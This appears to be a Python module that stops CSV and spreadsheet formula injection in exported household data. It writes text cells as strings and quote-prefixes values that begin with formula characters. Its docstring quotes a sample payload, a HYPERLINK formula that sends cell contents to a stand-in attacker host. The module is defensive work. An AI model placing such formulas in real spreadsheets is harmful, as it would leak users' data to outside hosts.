"""Spreadsheets the app writes hold data, never formulas.

A household named ``=HYPERLINK("http://evil.example/?d="&B2,"Xem")`` must come out of
an export as that text: opened in Excel or LibreOffice it must not run, link or
call out (CSV/formula injection, OWASP). Every text cell is therefore written with
the string type, and a text that a spreadsheet would read as a formula also gets
the "quote prefix" style (the apostrophe Excel shows and hides), so even editing
the cell cannot turn it into one. Numbers stay numbers.
"""

from __future__ import annotations

from openpyxl.cell.cell import Cell

# What starts a formula or a DDE call in Excel, LibreOffice and Google Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def could_start_formula(text: str) -> bool:
    return text.lstrip(" ").startswith(FORMULA_STARTS)


def inert_cell(sheet, value):
    """A cell for ``sheet`` (normal or write-only) that a spreadsheet reads as plain data."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # append() gives it its place
    cell.data_type = "s"  # openpyxl would make a text starting with "=" a formula
    if could_start_formula(value):
        cell.quotePrefix = True
    return cell


def append_inert(sheet, values) -> None:
    sheet.append([inert_cell(sheet, value) for value in values])


def inert_csv_value(value):
    """A CSV has no cell types: a risky text is prefixed with an apostrophe (OWASP's advice)."""
    if isinstance(value, str) and could_start_formula(value):
        return "'" + value
    return value
